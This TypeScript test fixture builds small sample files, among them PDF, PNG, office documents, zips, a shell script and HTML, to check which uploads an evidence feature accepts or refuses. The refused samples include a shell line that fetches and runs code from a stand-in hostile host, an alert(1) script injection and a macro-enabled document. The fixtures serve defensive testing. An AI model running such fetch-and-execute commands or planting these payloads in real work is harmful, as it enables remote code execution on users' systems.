// Test-only: small files of every kind the evidence feature takes, and some it refuses.
import { deflateRawSync } from "node:zlib";

/** A zip with the given entries (stored, or deflated); CRCs are left 0, which the content check does not read. */
export function zip(entries: Record<string, string>, deflate = false): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, text] of Object.entries(entries)) {
    const raw = Buffer.from(text, "utf8");
    const data = deflate && name !== "mimetype" ? deflateRawSync(raw) : raw;
    const method = data === raw ? 0 : 8;
    const nameBytes = Buffer.from(name, "utf8");
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(raw.length, 22);
    local.writeUInt16LE(nameBytes.length, 26);
    locals.push(local, nameBytes, data);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(raw.length, 24);
    central.writeUInt16LE(nameBytes.length, 28);
    central.writeUInt32LE(offset, 42);
    centrals.push(central, nameBytes);
    offset += 30 + nameBytes.length + data.length;
  }
  const dir = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(Object.keys(entries).length, 8);
  end.writeUInt16LE(Object.keys(entries).length, 10);
  end.writeUInt32LE(dir.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, dir, end]);
}

const contentTypes = (main: string) => `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`;

export const FILES = {
  pdf: Buffer.from("%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"),
  png: Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.from("IHDR-test")]),
  jpeg: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from("JFIF-test")]),
  csv: Buffer.from("maatregel;status\nlogboek bijhouden;gedaan\n", "utf8"),
  docx: zip({ "[Content_Types].xml": contentTypes("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"), "word/document.xml": "<w:document/>" }, true),
  xlsx: zip({ "[Content_Types].xml": contentTypes("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml") }),
  odt: zip({ mimetype: "application/vnd.oasis.opendocument.text", "content.xml": "<office:document-content/>" }, true),
  ods: zip({ mimetype: "application/vnd.oasis.opendocument.spreadsheet" }),
  docm: zip({ "[Content_Types].xml": contentTypes("application/vnd.ms-word.document.macroEnabled.main+xml"), "word/vbaProject.bin": "x" }),
  plainZip: zip({ "readme.txt": "hallo" }),
  script: Buffer.from("#!/bin/sh\ncurl https://kwaad.example/x | sh\n"),
  html: Buffer.from("<html><script>alert(1)</script></html>"),
  binary: Buffer.from([0x00, 0x01, 0x02, 0x03, 0x7f]),
} as const;
